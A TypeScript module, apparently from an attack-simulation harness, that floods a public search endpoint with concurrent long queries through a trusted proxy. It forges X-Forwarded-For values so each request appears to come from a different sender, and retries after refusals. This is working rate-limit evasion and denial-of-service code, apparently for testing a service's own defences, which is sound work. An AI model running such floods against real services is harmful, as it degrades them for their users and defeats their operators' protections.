import { setTimeout as pause } from 'node:timers/promises'
import type { Battlefield } from './attack.ts'
import { call, repeat } from './call.ts'
import { longQuery } from './long-query.ts'

/** A refused sender tries again after this time, milliseconds: sooner, it would only be refused again. */
const RETRY_MS = 1_000

/**
 * Sends long queries through the trusted proxy, several at a time for each sender, until the signal is aborted.
 *
 * @param senders - the entries of `X-Forwarded-For`; a function is called for each request.
 * @param width - concurrent queries of each sender.
 */
export async function floodThroughProxy(
  { url, proxyAddress: localAddress, signal, note }: Battlefield,
  senders: readonly (string | ((turn: number) => string))[],
  width: number,
): Promise<void> {
  const flood = (sender: (typeof senders)[number], first: number) =>
    repeat(signal, width, async turn => {
      const body = JSON.stringify({ query: longQuery(first * 1_000 + turn), max_results: 50 })
      const headers = { 'x-forwarded-for': typeof sender === 'string' ? sender : sender(turn) }
      const status = await call({
        url: `${url}/v1/search/public`,
        method: 'POST',
        headers,
        body,
        localAddress,
        signal,
      })
      note(status)
      if (status !== 200) await pause(RETRY_MS, undefined, { signal }).catch(() => {})
    })
  await Promise.all(senders.map(flood))
}
